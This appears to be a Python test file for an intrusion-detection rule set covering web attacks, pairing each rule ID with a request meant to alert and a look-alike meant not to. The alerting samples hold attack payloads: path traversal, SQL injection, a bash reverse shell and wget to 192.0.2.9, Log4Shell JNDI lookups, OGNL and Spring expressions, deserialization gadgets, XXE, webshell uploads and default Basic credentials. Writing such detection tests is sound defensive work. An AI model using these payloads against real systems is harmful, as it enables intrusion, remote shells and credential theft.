"""rules/sets/hangu-web.rules: what makes each rule alert, and what is like it and must not."""
from ftp import EICAR
from scripts import OK, Script, get, page, post, upload

XML, JSON = b'application/xml', b'application/json'
DELETED = OK.replace(b'\r\n\r\n', b'\r\nSet-Cookie: rememberMe=deleteMe; Path=/\r\n\r\n')


def basic(text):
	return get(b'/manager', b'Authorization: Basic ' + text)


def agent(text):
	return get(b'/', agent=text)


def cookies(times):
	return Script(80, get(b'/', b'Cookie: rememberMe=x', answer=DELETED).messages * times)


PATHS = {
	8613001: (get(b'/static/../../../etc/motd'), get(b'/a/../b.html')),
	8613002: (get(b'/static/%2e%2e/%2e%2e/x'), get(b'/a%2ehtml')),
	8613003: (get(b'/static/%252e%252e%252fx'), get(b'/a%252ehtml')),
	8613004: (get(b'/view?f=/etc/passwd'), get(b'/docs/passwd')),
	8613005: (get(b'/view?f=c:\\windows\\win.ini'), get(b'/windows/index.html')),
	8613006: (get(b'/view?f=php://filter/convert.base64-encode/resource=a'), get(b'/view?f=php')),
	8613007: (get(b'/.git/config'), get(b'/git/config')),
	8613008: (get(b'/app/.env'), get(b'/app/env')),
}
SQL = {
	8613009: (get(b'/n?id=1+union+all+select+1,2'), get(b'/n?q=trade+union+may+select')),
	8613010: (post(b'/n', b'id=1 union select 1,2'), post(b'/n', b'q=the union will select')),
	8613011: (get(b"/n?id=1'%20or%20'1'='1"), get(b"/n?name=O'Brien or 1")),
	8613012: (get(b'/n?id=1%20and%20sleep(5)'), get(b'/n?q=sleep(well)')),
	8613013: (get(b"/n?id=1;waitfor%20delay%20'0:0:5'"), get(b'/n?q=waitfor+delays')),
	8613014: (get(b'/n?id=(select+1+from+information_schema.tables)'), get(b'/n?q=information_schema')),
	8613015: (get(b"/n?id=1;exec+master..xp_cmdshell+'id'"), get(b'/n?q=cmdshell')),
	8613016: (get(b'/n?id=extractvalue(1,concat(0x7e,user()))'), get(b'/n?q=concat(a,b)')),
	8613017: (get(b"/n?id=1+into+outfile+'/var/www/a.php'"), get(b'/n?q=into+outfile+a')),
}
COMMANDS = {
	8613018: (get(b'/cgi?x=/bin/sh+-c'), get(b'/bin/show')),
	8613019: (get(b'/cgi?h=a;whoami'), get(b'/cgi?q=whoami')),
	8613068: (get(b'/cgi?h=a|id'), get(b'/cgi?a=1&id=2')),
	8613069: (get(b'/cgi?h=a;cat+/etc/hosts'), get(b'/cgi?pet=cat&f=/etc/')),
	8613020: (get(b'/cgi?h=a;wget+http://192.0.2.9/a'), get(b'/cgi?tool=wget&u=http://192.0.2.9/')),
	8613021: (get(b'/cgi?h=a;ls${IFS}-l'), get(b'/cgi?h=IFS')),
	8613022: (get(b'/cgi', b'X-A: () { :;}; /bin/id'), get(b'/cgi', b'X-A: f() {}')),
	8613023: (post(b'/cgi', b'c=bash -i >& /dev/tcp/192.0.2.9/4444'), post(b'/cgi', b'c=/dev/null')),
}
EXPRESSIONS = {
	8613024: (get(b'/n?q=${jndi:ldap://192.0.2.9/a}'), get(b'/n?q=jndi:ldap')),
	8613025: (get(b'/', b'X-Api: ${jndi:ldap://192.0.2.9/a}'), get(b'/', b'X-Api: jndi')),
	8613026: (post(b'/n', b'{"a":"${jndi:rmi://192.0.2.9/a}"}', JSON), post(b'/n', b'{"a":"${name}"}', JSON)),
	8613027: (get(b'/', b'X-Api: ${${lower:j}ndi:ldap://192.0.2.9/a}'), get(b'/', b'X-Api: ${name:-none}')),
	8613028: (post(b'/n', b'x', b"%{(#_='multipart/form-data').(#d=@ognl.OgnlContext@X)}"), post(b'/n', b'x', b'multipart/form-data')),
	8613029: (get(b'/n?a=(%23_memberAccess[%27x%27]=true)'), get(b'/n?a=memberAccess')),
	8613030: (get(b'/n?redirect:$%7b@java.lang.Runtime@getRuntime()%7d'), get(b'/n?q=java.lang.Runtime')),
	8613031: (post(b'/n', b'class.module.classLoader.resources.x=1'), post(b'/n', b'class.module=1')),
	8613032: (get(b'/n?class.module.classLoader.x=1'), get(b'/n?class.module=1')),
	8613033: (post(b'/functionRouter', b'x', b'text/plain\r\nspring.cloud.function.routing-expression: T(java.lang.Runtime)'),
		post(b'/functionRouter', b'x', b'text/plain\r\nspring.cloud.function.definition: upper')),
	8613034: (post(b'/n', b'{"v":"#{T(java.lang.Runtime).getRuntime()}"}', JSON), post(b'/n', b'{"v":"T(java.lang.String)"}', JSON)),
	8613035: (get(b'/actuator/heapdump'), get(b'/actuator/health')),
	8613036: (post(b'/n', b'{"@type":"com.sun.rowset.JdbcRowSetImpl"}', JSON), post(b'/n', b'{"@type":"Person"}', JSON)),
	8613037: (post(b'/n', b'\xac\xed\0\5sr\0:org.apache.commons.collections.functors.InvokerTransformer', b'application/octet-stream'),
		post(b'/n', b'\xac\xed\0\5sr\0\x11java.util.HashMap', b'application/octet-stream')),
	8613038: (post(b'/wls-wsat/CoordinatorPortType', b'<a/>', XML), get(b'/wls-wsat/CoordinatorPortType')),
	8613039: (post(b'/n', b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>', XML), post(b'/n', b'<!DOCTYPE a [<!ENTITY x "SYSTEM">]><a/>', XML)),
}
SHELLS = {
	8613040: (post(b'/a.html', b'x=eval($_POST[1]);'), post(b'/a.html', b'x=eval(1)')),
	8613041: (post(b'/a.html', b'pass=@eval\x01(base64_decode($_POST[z0]));'), post(b'/a.html', b'q=what is @eval and base64_decode')),
	8613042: (get(b'/a.html', agent=b'antSword/v2.1'), get(b'/a.html', agent=b'sword')),
	8613043: (upload(b'a.php', b'<?php x'), upload(b'php.txt', b'<?php x')),
	8613044: (upload(b'a.jsp', b'<% x'), upload(b'jsp.txt', b'<% x')),
	8613045: (upload(b'a.aspx', b'<% x'), upload(b'aspx.txt', b'<% x')),
	8613070: (post(b'/a.jsp/', b'<% x', b'text/plain', b'PUT'), post(b'/a.jsp.txt', b'<% x', b'text/plain', b'PUT')),
	8613046: (get(b'/images/c99.php'), get(b'/images/c9.php')),
	8613047: (get(b'/?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo'), get(b'/?s=invokefunction')),
	8613048: (post(b'/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', b'<?php x'), get(b'/stdin.php')),
	8613049: (get(b'/?%ADd+auto_prepend_file%3dphp://input'), get(b'/?%ADd+x')),
}
OFFICE = {
	8613050: (post(b'/weaver/bsh.servlet.BshServlet', b'bsh.script=exec("id")'), get(b'/weaver/index')),
	8613051: (post(b'/seeyon/htmlofficeservlet', b'DBSTEP V3.0'), get(b'/seeyon/htmlofficeservlet')),
	8613052: (post(b'/ispirit/im/upload.php', b'x'), get(b'/ispirit/im/upload.php')),
	8613053: (get(b'/nacos/v1/auth/users?pageNo=1', agent=b'Nacos-Server'), get(b'/nacos/v1/auth/users?pageNo=1')),
	8613054: (cookies(12), cookies(2)),
}
TOOLS = {
	8613055: (agent(b'sqlmap/1.7'), agent(b'sql map')),
	8613056: (agent(b'Mozilla/5.00 (Nikto/2.5.0)'), agent(b'Nik')),
	8613057: (agent(b'masscan/1.3'), agent(b'mass')),
	8613058: (agent(b'Mozilla/5.0 zgrab/0.x'), agent(b'grab')),
	8613059: (agent(b'Nuclei - Open-source project'), agent(b'Nucleus')),
	8613060: (agent(b'gobuster/3.6'), agent(b'bust')),
	8613061: (agent(b'WPScan v3.8'), agent(b'WP')),
	8613062: (agent(b'Mozilla/5.0 (Hydra)'), agent(b'Hydra')),
	8613063: (agent(b'Mozilla/5.0 (compatible; Nmap Scripting Engine)'), agent(b'map Engine')),
}
PASSWORDS = {
	8613064: (basic(b'YWRtaW46YWRtaW4='), basic(b'YWRtaW46YWRtaW4x')),
	8613065: (basic(b'YWRtaW46MTIzNDU2'), basic(b'YWRtaW46MTIzNDU2Nzg5')),
	8613066: (basic(b'dG9tY2F0OnRvbWNhdA=='), basic(b'dG9tY2F0OnRvbWNhdDE=')),
	8613067: (page(EICAR), page(b'EICAR is a test file')),
}
CASES = {**PATHS, **SQL, **COMMANDS, **EXPRESSIONS, **SHELLS, **OFFICE, **TOOLS, **PASSWORDS}
